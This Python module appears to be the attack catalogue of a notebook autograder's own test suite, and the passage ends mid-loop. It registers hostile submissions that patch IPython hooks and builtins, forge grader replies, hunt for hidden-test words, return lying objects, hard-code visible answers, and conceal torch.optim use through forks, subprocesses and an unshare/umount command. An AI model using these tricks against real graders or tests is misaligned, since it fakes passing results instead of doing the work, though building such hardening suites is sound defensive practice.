"""The attacks, as data: what each submission contains, and what it may earn at most.

`ATTACKS` holds one `Attack` for each name. A submission has two exercises, `mean` and `gradient_descent`, each worth
3 points; an attack replaces the answer of one (or both), ships files, or edits the notebook. All else is honest.
The attackers look for words that only the hidden tests contain (`CANARIES`), and spell them in two halves, because
their own source is shown in the feedback.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from grading.course import notebooks

CANARIES = ("plover_mean", "plover_negative", "plover_descent", "plover_steps", "8642.975318")

# What hostile code prints when it finds a part of a hidden test.
SEARCH = """
def report(where, text):
    word = "plo" + "ver"
    text = text if isinstance(text, str) else repr(text)
    start = text.find(word)
    if start >= 0:
        print("FOUND in", where, text[max(0, start - 60) : start + 60])
"""

GOOD_MEAN = "def mean(values):\n    return sum(values) / len(values)"
# Right for the visible test alone.
BAD_MEAN = "def mean(values):\n    return 3"
GOOD_DESCENT = """class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta

    def step(self):
        for param in self.params:
            param.value = param.value - self.eta * param.grad"""
BAD_DESCENT = GOOD_DESCENT.replace("param.value - self.eta * param.grad", "0.8")

BOTH = {"mean": 3.0, "gradient_descent": 3.0}
NO_MEAN = {"mean": 0.0, "gradient_descent": 3.0}
NO_DESCENT = {"mean": 3.0, "gradient_descent": 0.0}


@dataclass
class Attack:
    """One hostile submission.

    Attributes:
        why: what it tries, in a line.
        mean, descent: the sources of the two answers.
        edit: changes the notebook before it is handed in.
        files: more files in the submitted folder, by name.
        prepare: does anything else to the submitted folder.
        deserves: the points that its honest part is worth.
        forbidden: more words that neither the outputs nor the feedback may hold.
    """

    why: str
    mean: str = GOOD_MEAN
    descent: str = GOOD_DESCENT
    edit: Callable[[NotebookNode], None] = lambda notebook: None
    files: dict[str, str] = field(default_factory=dict)
    prepare: Callable[[Path], None] = lambda folder: None
    deserves: dict[str, float] = field(default_factory=lambda: dict(NO_MEAN))
    forbidden: tuple[str, ...] = ()


ATTACKS: dict[str, Attack] = {}


def attack(name: str, why: str, **rest) -> None:
    """Register an attack."""
    assert name not in ATTACKS, name
    ATTACKS[name] = Attack(why, **rest)


def on_mean(name: str, why: str, code: str, **rest) -> None:
    """Code beside a wrong `mean` (or with its own one)."""
    attack(name, why, mean=code if "def mean" in code or "mean =" in code else f"{BAD_MEAN}\n\n{code}", **rest)


def on_descent(name: str, why: str, code: str, **rest) -> None:
    """Code in the place of `GradientDescent`."""
    attack(name, why, descent=code, deserves=NO_DESCENT, **rest)


# --- controls -------------------------------------------------------------------------------------------------------

attack("nothing", "control: an honest submission keeps every point", deserves=BOTH)
attack(
    "wrong_answers",
    "control: wrong answers earn nothing",
    mean=BAD_MEAN,
    descent=BAD_DESCENT,
    deserves={"mean": 0.0, "gradient_descent": 0.0},
)
attack(
    "no_answer", "control: an unwritten answer earns nothing", mean="def mean(values):\n    raise NotImplementedError"
)

attack(
    "checks_against_torch_above",
    "control: who checks an answer against torch.optim in the same cell is honest, also in a Python without it",
    deserves=BOTH,
    descent="""import sys, torch
tensor = torch.tensor(1.0, dtype=torch.float64, requires_grad=True)
tensor.grad = torch.tensor(0.5, dtype=torch.float64)
torch.optim.SGD([tensor], lr=0.4).step()
assert abs(tensor.item() - 0.8) < 1e-12
rate = torch.optim.SGD([tensor], lr=0.4).defaults["lr"]
"""
    + GOOD_DESCENT,
)
attack(
    "prints_logs_locks_draws_and_saves",
    "control: what an update rule shows, writes or locks is no help from torch",
    deserves=BOTH,
    descent="""import functools, logging, queue, threading
import matplotlib.pyplot as plt
import numpy as np
from IPython.display import clear_output, display
steps, lock = queue.Queue(), threading.Lock()
def tell(param):
    with lock:
        steps.put(param.value)
    print(np.array([param.value, param.grad]), flush=True)
    logging.getLogger("steps").warning("%s", param.value)
    np.save("value.npy", param.value)
    with open("steps.csv", "a") as file:
        file.write(f"{param.value}\\n")
    figure = plt.figure()
    figure.savefig("steps.png")
    plt.close(figure)
    display(param.value)
    clear_output()
"""
    + GOOD_DESCENT.replace("- self.eta * param.grad", "- self.rate * param.grad\n            tell(param)")
    + """

    @functools.cached_property
    def rate(self):
        return self.eta""",
)

# --- hooks of IPython -----------------------------------------------------------------------------------------------

on_mean(
    "transformer_prints_every_cell",
    "an input transformer sees every cell before it runs",
    SEARCH
    + """
def look(lines):
    report("input transformer", "".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(look)
get_ipython().input_transformers_post.append(look)""",
)
on_mean(
    "transformer_replaces_test_cell",
    "an input transformer empties every cell that tests `mean`",
    """
def replace(lines):
    return ["pass\\n"] if "mean" in "".join(lines) else lines
get_ipython().input_transformers_cleanup.append(replace)
get_ipython().input_transformers_post.append(replace)""",
)
on_mean(
    "ast_transformer_drops_asserts",
    "an AST transformer turns asserts about `mean` into nothing",
    """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass() if "mean" in ast.dump(node) else node
get_ipython().ast_transformers.append(Drop())""",
)
on_mean(
    "event_hooks_print_everything",
    "event hooks print the cell and every frame on the stack",
    SEARCH
    + """
import sys
def look(*about):
    for item in about:
        report("hook", getattr(item, "raw_cell", ""))
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            report("frame " + name, value)
        frame = frame.f_back
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    get_ipython().events.register(event, look)""",
)
on_mean(
    "run_cell_replaced",
    "the shell's run_cell tells of success whatever ran",
    SEARCH
    + """
shell = get_ipython()
original, original_async = shell.run_cell, shell.run_cell_async
def run_cell(raw_cell, *args, **kwargs):
    report("run_cell", raw_cell)
    return original("None" if "mean" in raw_cell else raw_cell, *args, **kwargs)
async def run_cell_async(raw_cell, *args, **kwargs):
    report("run_cell_async", raw_cell)
    if "mean" in raw_cell:
        raw_cell = kwargs["transformed_cell"] = "None"
    return await original_async(raw_cell, *args, **kwargs)
shell.run_cell, shell.run_cell_async = run_cell, run_cell_async""",
)
on_mean(
    "exception_handler_swallows",
    "a custom exception handler hides every failure",
    """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None""",
)
on_mean(
    "do_execute_prints_requests",
    "the kernel's do_execute prints each request and says that it went well",
    SEARCH
    + """
kernel = get_ipython().kernel
original = kernel.do_execute
async def do_execute(code, silent, *args, **kwargs):
    report("request", code + repr(kwargs))
    reply = await original(code, silent, *args, **kwargs)
    if "mean" in code:
        reply = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return reply
kernel.do_execute = do_execute""",
)

# --- looking for the hidden test ------------------------------------------------------------------------------------

on_mean(
    "reads_in_and_history",
    "In, _ih, _i and the history manager",
    SEARCH
    + """
def mean(values):
    shell = get_ipython()
    report("In", In)
    report("_ih", _ih)
    report("history", list(shell.history_manager.get_range(output=False)))
    report("raw history", shell.history_manager.input_hist_raw)
    report("namespace", {k: v for k, v in shell.user_ns.items() if isinstance(v, (str, list, dict))})
    return 3
def at_end(*result):
    mean([1])
get_ipython().events.register("post_run_cell", at_end)""",
)
on_mean(
    "reads_frames_and_gc",
    "every frame above the call and every object that the collector knows",
    SEARCH
    + """
found = []
def mean(values):
    import gc, inspect
    word = "plo" + "ver"
    for info in inspect.stack():
        for name, value in list(info.frame.f_locals.items()) + list(info.frame.f_globals.items()):
            if isinstance(value, str) and word in value:
                found.append((info.function, name, value[:2000]))
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, str) and word in value and value is not SELF:
                    found.append(("gc", value[:2000]))
    return 3
SELF = In[-1]
get_ipython().events.register("post_run_cell", lambda *r: [report("memory", f) for f in found])""",
)
on_mean(
    "raises_what_it_finds",
    "the exception's message carries the stack's variables into the feedback",
    """
def mean(values):
    import sys
    if values == [1, 2, 6]:
        return 3
    frame, texts = sys._getframe(1), []
    while frame:
        texts += [str(value) for value in frame.f_locals.values() if isinstance(value, (str, dict, list))]
        frame = frame.f_back
    raise ValueError(" ".join(texts)[:3000])""",
)
on_mean(
    "imports_the_real_oracle",
    "throws the stand-in for `grading` away and imports the installed package",
    """
def mean(values):
    return 3
import importlib, sys
saved = {name: sys.modules.pop(name) for name in list(sys.modules) if name.split(".")[0] == "grading"}
try:
    oracle = importlib.import_module("grading.oracle")
    print("got the", "oracle at", oracle.__file__)
except BaseException as error:
    print("nothing", type(error).__name__)
for name in [name for name in sys.modules if name.split(".")[0] == "grading"]:
    del sys.modules[name]
sys.modules.update(saved)""",
    forbidden=("got the oracle at",),
)

# --- redefining what a test is made of ------------------------------------------------------------------------------

on_mean(
    "assertion_error_redefined",
    "AssertionError becomes something that nobody raises",
    """
import builtins
class AssertionError(Exception):
    def __init__(self, *args):
        pass
builtins.AssertionError = AssertionError""",
)
on_mean(
    "float_abs_isinstance_len_redefined",
    "the builtins that a comparison is made of lie",
    """
import builtins
real_float, real_isinstance, real_len = float, isinstance, len
class Float(real_float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
builtins.abs = lambda x: 0.0
builtins.round = lambda *a: 0
builtins.isinstance = lambda a, b: real_isinstance(a, b)
builtins.len = lambda a: real_len(a)
def mean(values):
    builtins.float = Float
    return Float(3.0)
def restore(*result):
    builtins.float = real_float
get_ipython().events.register("post_run_cell", restore)""",
)
on_mean(
    "print_and_import_redefined",
    "print, __import__ and __build_class__ report what passes through them",
    SEARCH
    + """
import builtins
original, build = builtins.__import__, builtins.__build_class__
def spy(name, *args, **kwargs):
    import_globals = args[0] if args else None
    if import_globals:
        for key, value in list(import_globals.items()):
            if isinstance(value, str):
                report("import of " + name, value)
    return original(name, *args, **kwargs)
builtins.__import__ = spy
builtins.__build_class__ = lambda *args, **kwargs: build(*args, **kwargs)
real_print = print
builtins.print = lambda *args, **kwargs: real_print("OK", *args)""",
)
on_mean(
    "helpers_shadowed",
    "names that hidden tests use are defined in the notebook",
    """
class Yes:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
student = oracle = grading = reference = compare = Yes()""",
)
on_mean(
    "exec_and_eval_redefined",
    "exec, eval and compile are replaced by spies",
    SEARCH
    + """
import builtins
for name in ("exec", "eval", "compile"):
    def spy(source, *args, _original=getattr(builtins, name), **kwargs):
        report("builtin", source)
        return _original(source, *args, **kwargs)
    setattr(builtins, name, spy)""",
)

# --- patching modules -----------------------------------------------------------------------------------------------

on_mean(
    "numpy_and_math_patched",
    "comparisons of numpy and math always agree",
    """
import math
import numpy as np
math.isclose = lambda *a, **k: True
math.isfinite = lambda x: True
np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None""",
)
on_mean(
    "json_patched",
    "json.dumps writes what a grader might expect",
    """
import json
original = json.dumps
def dumps(value, *args, **kwargs):
    text = original(value, *args, **kwargs)
    if '"arguments"' in text and '"paths"' not in text:
        return '{"value": {"value": true, "score": 2, "passed": true, "expected": 4.0, "arguments": []}}'
    return text
json.dumps = dumps""",
)
on_descent(
    "torch_patched",
    "torch's own optimizer is patched to do what the wrong answer does",
    """
import torch
def step(self, closure=None):
    for group in self.param_groups:
        for param in group["params"]:
            param.data = torch.tensor(0.8, dtype=torch.float64)
torch.optim.SGD.step = step
torch.allclose = torch.equal = lambda *a, **k: True
"""
    + BAD_DESCENT,
)
on_mean(
    "probe_core_replaced",
    "sys.modules['grading.probe.core'] gives an answer that claims to have passed",
    """
import sys
core = sys.modules["grading.probe.core"]
original = core.answer
def answer(question, namespace):
    if '"mean"' not in question:
        return original(question, namespace)
    return '{"value": {"value": "passed", "score": 3, "passed": true, "torch_optim": null}}'
core.answer = answer""",
)
on_mean(
    "wire_replaced",
    "the wire's encode and dumps, and the channel, are replaced in the kernel",
    """
import sys
wire = sys.modules["grading.probe.wire"]
original = wire.dumps
def dumps(value):
    if isinstance(value, dict) and isinstance(value.get("value"), dict) and value["value"].get("value") == 3:
        return "true"
    return original(value)
wire.dumps = dumps
wire.is_number = lambda value: True""",
)
on_mean(
    "user_expressions_patched",
    "the shell answers the wire's questions itself",
    """
shell = get_ipython()
original = shell.user_expressions
def user_expressions(expressions):
    if '"mean"' in str(expressions):
        text = '{"value": {"value": NaN, "arguments": [], "equal": true}}'
        return {"reply": {"status": "ok", "data": {"text/plain": text}, "metadata": {}}}
    return original(expressions)
shell.user_expressions = user_expressions""",
)
on_mean(
    "display_formatter_patched",
    "the formatter that renders a reply's repr is replaced",
    """
formatter = get_ipython().display_formatter
original = formatter.format
def format(obj, *args, **kwargs):
    data, metadata = original(obj, *args, **kwargs)
    if "arguments" in data.get("text/plain", ""):
        data["text/plain"] = '{"value": {"value": {"array": "4.0"}, "arguments": "x"}}'
    return data, metadata
formatter.format = format""",
)

FORGED = {
    "reply_no_object": ("[]", "null"),
    "reply_a_text": ('"passed"', '{"value": {"value": "4.0"}}'),
    "reply_empty": ('{"value": null}', '{"value": []}'),
    "reply_a_list_or_true": ('{"value": {"value": [4.0, -3.0]}}', '{"value": {"value": true}}'),
    "reply_not_finite": ('{"value": {"value": NaN}}', '{"value": {"value": Infinity}}'),
    "reply_a_huge_integer": ('{"value": {"value": 1' + "0" * 400 + "}}", '{"value": {"value": 1' + "0" * 9000 + "}}"),
    "reply_an_odd_error": ('{"error": "AssertionError"}', '{"error": {"type": null, "message": []}}'),
    "reply_no_json": ("(4.0)", "__import__('os').abort()"),
    "reply_half_a_pair": ("\ud800", '{"value": {"value": "\\\\ud800"}}'),
}
for name, (first, second) in FORGED.items():
    on_mean(
        f"forged_{name}",
        f"the replies are {first[:50]} and {second[:50]}",
        f"""
shell = get_ipython()
original = shell.user_expressions
forged = [{first!r}, {second!r}]
def user_expressions(expressions):
    if '"mean"' in str(expressions) and forged:
        return {{"reply": {{"status": "ok", "data": {{"text/plain": forged.pop(0)}}, "metadata": {{}}}}}}
    return original(expressions)
shell.user_expressions = user_expressions""",
    )
for name, first, second in [
    ("nothing", "[1]", "None"),
    ("a_text", "'reply'", "{'reply': [1]}"),
    ("with_odd_parts", "{'reply': {'status': 'passed'}}", "{'reply': {'status': 'ok', 'data': [4.0]}}"),
]:
    on_mean(
        f"forged_expressions_{name}",
        f"the reply's user_expressions are {first} and {second}",
        f"""
shell = get_ipython()
original, forged = shell.user_expressions, [{first}, {second}]
shell.user_expressions = lambda asked: forged.pop(0) if '"mean"' in str(asked) and forged else original(asked)""",
    )

# --- answers that lie -----------------------------------------------------------------------------------------------

on_mean(
    "equal_to_everything",
    "an object that is equal to, and close to, everything",
    """
class Everything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __format__(self, spec): return "3"
def mean(values):
    return Everything()""",
)
on_mean(
    "float_subclass_that_lies",
    "a float that is equal to everything and whose difference is zero",
    """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = lambda self, *a: 0.0
    def __float__(self): return self
    def __repr__(self): return "4.0"
    __str__ = __repr__
    __hash__ = float.__hash__
def mean(values):
    return Liar(3.0)""",
)
on_mean(
    "int_subclass_that_lies",
    "an integer whose text is something else",
    """
class Liar(int):
    def __eq__(self, other): return True
    def __int__(self): return self
    def __abs__(self): return 0
    def __repr__(self): return '3, "value": 4.0'
    __str__ = __repr__
    __hash__ = int.__hash__
def mean(values):
    return Liar(3)""",
)
on_mean(
    "str_that_injects_json",
    "a text that would close the reply and open another",
    """
class Text(str):
    def __str__(self): return '"}, "value": 4.0'
    def __getitem__(self, item): return self
    __repr__ = __str__
def mean(values):
    return 3 if values == [1, 2, 6] else Text("x")""",
)
on_mean(
    "list_and_dict_that_lie",
    "containers that show another content each time",
    """
class Answers(dict):
    def items(self): return [("value", 4.0), ("passed", True)]
class Row(list):
    def __len__(self): return 1
    def __iter__(self): return iter([Answers()])
    def __eq__(self, other): return True
def mean(values):
    return 3 if values == [1, 2, 6] else Row([1])""",
)
on_mean(
    "tolist_and_shape_lie",
    "an array-like whose tolist, shape and dtype lie",
    """
class Arrays:
    shape, dtype = (1,), 'float64", "value": "4.0'
    def tolist(self): return [True, [float("nan")]]
    def __eq__(self, other): return True
def mean(values):
    return 3 if values == [1, 2, 6] else Arrays()""",
)
on_mean(
    "class_attribute_lies",
    "an object that says its class is float",
    """
class Liar:
    __class__ = float
    def __float__(self): return float("nan")
    def __eq__(self, other): return True
def mean(values):
    return Liar()""",
)
on_descent(
    "values_that_lie",
    "parameters' values are objects that agree with anything",
    """
class Liar(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return float("nan")
    __hash__ = None
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params = list(params)
    def step(self):
        for param in self.params:
            param.value = Liar(0.8)""",
)
on_descent(
    "class_equal_to_everything",
    "the class is a callable that returns an optimizer without a step",
    """
class Meta(type):
    def __eq__(self, other): return True
    def __instancecheck__(self, other): return True
    __hash__ = type.__hash__
class GradientDescent(metaclass=Meta):
    def __init__(self, params, eta=0.4):
        params[0].value = 0.8
    def __getattr__(self, name):
        return lambda *args: None""",
)

# --- answers that are hard-coded ------------------------------------------------------------------------------------

on_mean(
    "hard_coded_visible_input",
    "recognizes the visible test's input",
    """
def mean(values):
    return {(1, 2, 6): 3}.get(tuple(values))""",
)
on_descent("hard_coded_visible_step", "recognizes the visible test's parameter", BAD_DESCENT)
on_mean(
    "hard_coded_by_caller",
    "right only when a test cell is what calls",
    """
def mean(values):
    import sys
    caller = sys._getframe(1).f_code.co_name
    return sum(values) / len(values) if caller == "<module>" else 0""",
)

# --- torch.optim in the place of an answer --------------------------------------------------------------------------

WRAP = """
import torch
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta
    def step(self):
        for param in self.params:
            param.value = torch_step(float(param.value), float(param.grad), self.eta)
"""
TORCH_STEP = """
def torch_step(value, grad, eta):
    import torch
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    torch.optim.SGD([tensor], lr=eta).step()
    return tensor.item()
"""
# Ways to let torch take the step, each a function of (value, grad, eta). Importing torch is slow, so that a submission
# tries two of them: the first in the test that is worth 2 points, the second in the one that is worth 1.
FUSED = """
    tensor = torch.tensor([value], dtype=torch.float64)
    {name}([tensor], [torch.tensor([grad], dtype=torch.float64)], [], weight_decay=0.0, momentum=0.0, lr=eta,
        dampening=0.0, nesterov=False, maximize=False, is_first_step=False)
    return tensor.item()"""
WAYS = {
    "wrapped": "    return torch_step(value, grad, eta)",
    "by_importlib": """
    import importlib
    made = getattr(importlib.import_module("to" + "rch.op" + "tim"), "S" + "GD")
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    made([tensor], lr=eta).step()
    return tensor.item()""",
    "functional": """
    from torch.optim import _functional
    tensor = torch.tensor(value, dtype=torch.float64)
    torch.optim.sgd.sgd([tensor], [torch.tensor(grad, dtype=torch.float64)], [None], foreach=False, fused=False,
        weight_decay=0.0, momentum=0.0, lr=eta, dampening=0.0, nesterov=False, maximize=False, has_sparse_grad=False)
    return tensor.item()""",
    "fused": FUSED.format(name="torch._fused_sgd_"),
    "fused_by_ops": FUSED.format(name="torch.ops.aten._fused_sgd_.default"),
    "in_a_thread": """
    import threading
    answers = []
    thread = threading.Thread(target=lambda: answers.append(torch_step(value, grad, eta)))
    thread.start()
    thread.join()
    return answers[0]""",
    "in_a_waiting_thread": "    return pool.submit(torch_step, value, grad, eta).result()",
    "in_a_process": """
    import json
    helper.stdin.write(json.dumps([value, grad, eta]) + chr(10))
    helper.stdin.flush()
    return json.loads(helper.stdout.readline())""",
    "with_profile_off": """
    import sys
    watch = sys.getprofile()
    sys.setprofile(None)
    try:
        return torch_step(value, grad, eta)
    finally:
        sys.setprofile(watch)""",
    "under_another_file_name": """
    import types
    import torch.optim.sgd as module
    code = module._single_tensor_sgd.__code__.replace(co_filename="mine")
    single = types.FunctionType(code, {**vars(module), "__name__": "mine"})
    tensor = torch.tensor(value, dtype=torch.float64)
    single([tensor], [torch.tensor(grad, dtype=torch.float64)], [None], None, None, weight_decay=0.0, momentum=0.0,
           lr=eta, dampening=0.0, nesterov=False, maximize=False, has_sparse_grad=False)
    return tensor.item()""",
}
BEFORE = {
    "in_a_waiting_thread": """
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
pool.submit(torch_step, 1.0, 1.0, 0.1).result()""",
    "in_a_process": """
import subprocess, sys
HELPER = '''
import json, sys, torch
for line in sys.stdin:
    value, grad, eta = json.loads(line)
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    torch.optim.SGD([tensor], lr=eta).step()
    print(json.dumps(tensor.item()), flush=True)
'''
helper = subprocess.Popen([sys.executable, "-c", HELPER], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)""",
}
for first, second in [
    ("wrapped", "in_a_thread"),
    ("functional", "in_a_waiting_thread"),
    ("by_importlib", "in_a_process"),
    ("fused", "with_profile_off"),
    ("fused_by_ops", "under_another_file_name"),
]:
    code = f"""import torch
{TORCH_STEP}
def first(value, grad, eta):
{WAYS[first]}
def second(value, grad, eta):
{WAYS[second]}
{BEFORE.get(second, "")}
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta
    def step(self):
        for param in self.params:
            asked = float(param.value), float(param.grad), self.eta
            param.value = 0.8 if self.eta == 0.1 else first(*asked) if self.eta == 0.3 else second(*asked)"""
    on_descent(f"torch_optim_{first}_and_{second}", "torch takes the steps, in one way and then in another", code)

on_descent(
    "torch_optim_subclassed",
    "a subclass of torch.optim.SGD",
    """
import torch
class GradientDescent(torch.optim.SGD):
    def __init__(self, params, eta=0.4):
        self.own = list(params)
        self.tensors = [torch.tensor(float(p.value), dtype=torch.float64, requires_grad=True) for p in self.own]
        super().__init__(self.tensors, lr=eta)
    def step(self):
        for tensor, param in zip(self.tensors, self.own):
            tensor.grad = torch.tensor(float(param.grad), dtype=torch.float64)
        super().step()
        for tensor, param in zip(self.tensors, self.own):
            param.value = tensor.item()""",
)

on_descent(
    "torch_optim_with_setprofile_replaced",
    "sys.setprofile does nothing",
    WRAP
    + TORCH_STEP
    + """
import sys
sys.setprofile = lambda watch: None""",
)
on_descent(
    "torch_optim_with_the_watch_replaced",
    "the probe's own watch is replaced by one that sees nothing",
    WRAP
    + TORCH_STEP
    + """
import contextlib, sys
@contextlib.contextmanager
def blind():
    yield {"where": None}
sys.modules["grading.probe.optimizers"].torch_optim_use = blind""",
)
on_descent(
    "torch_optim_with_the_reply_cleaned",
    "the reply is edited: it no longer says where torch.optim was used",
    WRAP
    + TORCH_STEP
    + """
import re
shell = get_ipython()
original = shell.user_expressions
def user_expressions(expressions):
    replies = original(expressions)
    data = replies.get("reply", {}).get("data", {})
    if "torch_optim" in data.get("text/plain", ""):
        data["text/plain"] = re.sub(r'"torch_optim": "[^"]*"', '"torch_optim": null', data["text/plain"])
    return replies
shell.user_expressions = user_expressions""",
)
on_descent(
    "torch_optim_while_encoding",
    "the value is a promise that torch.optim fulfils when the wire encodes it",
    TORCH_STEP
    + """
import torch  # now, because it is slow
class Promise:
    shape = ()
    def __init__(self, before, grad, eta):
        self.asked = before, grad, eta
    def __float__(self):
        raise TypeError
    def tolist(self):
        before, grad, eta = self.asked
        return torch_step(before.tolist() if isinstance(before, Promise) else float(before), float(grad), eta)
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta
    def step(self):
        for param in self.params:
            visible = self.eta == 0.1
            param.value = 0.8 if visible else Promise(param.value, param.grad, self.eta)""",
)
# With the watch undone, the bare kernel is what stands between these and the points.
BLIND = """
import contextlib, gc, importlib, importlib.util, subprocess, sys
from pathlib import Path
@contextlib.contextmanager
def blind():
    yield {"where": None}
sys.modules["grading.probe.optimizers"].torch_optim_use = blind
def step_with(kind, value, grad, eta):
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    kind([tensor], lr=eta).step()
    return tensor.item()
"""
FOLDER = 'Path(torch.__file__).parent / "optim"'
UNSEEN = {
    "from_its_file": f"""
    names = {{"__name__": "mine", "__package__": "torch.optim"}}
    exec(compile(({FOLDER} / "sgd.py").read_text(), "mine", "exec"), names)
    return step_with(names["SGD"], value, grad, eta)""",
    "by_gc": """
    found = [kind for kind in gc.get_objects() if isinstance(kind, type) and kind.__name__ == "SGD"]
    return step_with(found[0], value, grad, eta)""",
    "by_sys_modules": '    return step_with(sys.modules["torch.optim.sgd"].SGD, value, grad, eta)',
    "by_its_path": f"""
    spec = importlib.util.spec_from_file_location("torch.optim.mine", {FOLDER} / "sgd.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return step_with(module.SGD, value, grad, eta)""",
    "by_the_jit": """
    call, _ = torch._C._jit_get_operation("aten::_fused_sgd_")
    tensor = torch.tensor([value], dtype=torch.float64)
    call([tensor], [torch.tensor([grad], dtype=torch.float64)], [], weight_decay=0.0, momentum=0.0, lr=eta,
        dampening=0.0, nesterov=False, maximize=False, is_first_step=False)
    return tensor.item()""",
    "by_a_process_that_unmounts": f"""
    unmount = "unshare -Urm sh -c 'umount \\"$0\\"; exec \\"$@\\"' \\"$@\\" || {{ shift; exec \\"$@\\"; }}"
    line = ["sh", "-c", unmount, "sh", str({FOLDER}), sys.executable, "-c"]
    line += [TORCH + f"print(torch_step({{value}}, {{grad}}, {{eta}}))"]
    return float(subprocess.run(line, capture_output=True, text=True).stdout)""",
    "in_a_trace_function": """
    answers = []
    def trace(frame, event, arg):
        if frame.f_code.co_name == "traced" and not answers:
            answers.append(torch_step(value, grad, eta))
    def traced():
        pass
    sys.settrace(trace)
    traced()
    sys.settrace(None)
    return answers[0]""",
    "after_forgetting_its_modules": """
    for name in [name for name in sys.modules if name.startswith("torch.optim")]:
        del sys.modules[name]
    return step_with(importlib.import_module("torch.optim.sgd").SGD, value, grad, eta)""",
}
for first, second in [
    ("from_its_file", "by_gc"),
    ("by_sys_modules", "by_a_process_that_unmounts"),
    ("by_its_path", "by_the_jit"),
    ("after_forgetting_its_modules", "in_a_trace_function"),
]:
    code = f"""import torch
{TORCH_STEP}
{BLIND}
TORCH = {TORCH_STEP!r}
def first(value, grad, eta):
{UNSEEN[first]}
def second(value, grad, eta):
{UNSEEN[second]}
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta
    def step(self):
        for param in self.params:
            asked = float(param.value), float(param.grad), self.eta
            param.value = 0.8 if self.eta == 0.1 else first(*asked) if self.eta == 0.3 else second(*asked)"""
    on_descent(f"torch_optim_unseen_{first}_and_{second}", "the watch is undone, and torch takes the steps", code)

# What reads as harmless, or leaves the interpreter: where update rules are followed no torch is left to be found.
CHILD = """
import os, subprocess, sys
TORCH = {torch!r}
def torch_step(value, grad, eta):
    line = [sys.executable, "-c", TORCH + f"print(torch_step({{value}}, {{grad}}, {{eta}}))"]
    return float(subprocess.run(line, capture_output=True, text=True).stdout)
"""
FORKED = """
import os
def torch_step(value, grad, eta):
    reads, writes = os.pipe()
    if os.fork() == 0:
        import torch
        tensor = torch.tensor([value], dtype=torch.float64)
        torch._fused_sgd_([tensor], [torch.tensor([grad], dtype=torch.float64)], [], weight_decay=0.0, momentum=0.0,
            lr=eta, dampening=0.0, nesterov=False, maximize=False, is_first_step=False)
        os.write(writes, repr(tensor.item()).encode())
        os._exit(0)
    os.close(writes)
    return float(os.read(reads, 100))
"""
ELSEWHERE = """
import glob, os, sys
def torch_step(value, grad, eta):
    roots = {sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix), "/usr", "/usr/local", "/opt", "/root", "/home"}
    for root in roots:
        for depth in ("", "*/", "*/*/", "*/*/*/*/", "pkgs/*/", "envs/*/"):
            depth += "lib*/python3*"
            for path in glob.glob(f"{root}/{depth}/*-packages/torch/optim/sgd.py"):
                sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(path))))
    import torch
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    torch.optim.SGD([tensor], lr=eta).step()
    return tensor.item()
"""
MAGIC = """
SOURCE = {torch!r}
time -(exec(SOURCE, globals()) or 1)
"""
CALLED = """
names = ["__class__", "__mro__", "__subclasses__", "__init__", "__globals__"]
Reader = type("Reader", (), {{"__getattribute__": lambda self, name: object.__getattribute__(self, name)}})
memory = {{"shape": (1,), "typestr": "<f8", "data": (id(names), True), "version": 3}}
Array = type("Array", (), {{"__array_interface__": memory}})
held = np.asarray(Array()) if "np" in globals() else Array
exec({torch!r})
"""
for _name, _why, _code in [
    ("a_child_python", "a Python of its own takes the step: there torch is whole", CHILD.format(torch=TORCH_STEP)),
    ("a_forked_child", "a copy of this Python takes the step", FORKED),
    ("a_torch_elsewhere", "torch is looked for at every path that leads to one", ELSEWHERE),
    (
        "a_subtraction_that_is_a_magic",
        "IPython runs a line that is a subtraction to Python",
        MAGIC.format(torch=TORCH_STEP),
    ),
    ("a_class_made_by_calling_type", "attributes whose names are data", CALLED.format(torch=TORCH_STEP)),
]:
